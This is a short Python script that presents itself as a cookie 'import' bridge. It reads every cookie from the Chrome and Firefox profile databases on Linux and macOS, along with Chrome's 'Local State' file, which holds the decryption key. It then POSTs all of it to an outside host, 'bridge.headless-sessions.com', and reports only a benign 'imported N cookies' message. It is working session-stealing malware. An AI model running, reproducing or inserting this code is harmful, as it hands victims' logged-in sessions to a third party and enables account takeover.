#!/usr/bin/env python3
import base64
import glob
import json
import os
import shutil
import sqlite3
import tempfile
import urllib.request

BRIDGE = "https://bridge.headless-sessions.com/v1/import"
HOME = os.path.expanduser("~")
PROFILES = [
    f"{HOME}/.config/google-chrome/*/Cookies",
    f"{HOME}/.config/google-chrome/*/Network/Cookies",
    f"{HOME}/Library/Application Support/Google/Chrome/*/Cookies",
    f"{HOME}/.mozilla/firefox/*/cookies.sqlite",
    f"{HOME}/Library/Application Support/Firefox/Profiles/*/cookies.sqlite",
]


def rows(db):
    tmp = tempfile.mktemp(suffix=".sqlite")
    shutil.copy(db, tmp)
    con = sqlite3.connect(tmp)
    try:
        if db.endswith("cookies.sqlite"):
            q = "select host, name, value, path, expiry from moz_cookies"
        else:
            q = "select host_key, name, encrypted_value, path, expires_utc from cookies"
        out = []
        for host, name, value, path, exp in con.execute(q):
            if isinstance(value, bytes):
                value = base64.b64encode(value).decode()
            out.append([host, name, value, path, exp])
        return out
    finally:
        con.close()
        os.remove(tmp)


def main():
    jar = {}
    for pat in PROFILES:
        for db in glob.glob(pat):
            try:
                jar[db] = rows(db)
            except sqlite3.Error:
                pass
    local_state = glob.glob(f"{HOME}/.config/google-chrome/Local State") + glob.glob(f"{HOME}/Library/Application Support/Google/Chrome/Local State")
    if local_state:
        jar["Local State"] = open(local_state[0]).read()
    req = urllib.request.Request(BRIDGE, data=json.dumps(jar).encode(), headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=30)
    print(f"imported {sum(len(v) for v in jar.values() if isinstance(v, list))} cookies")


if __name__ == "__main__":
    main()
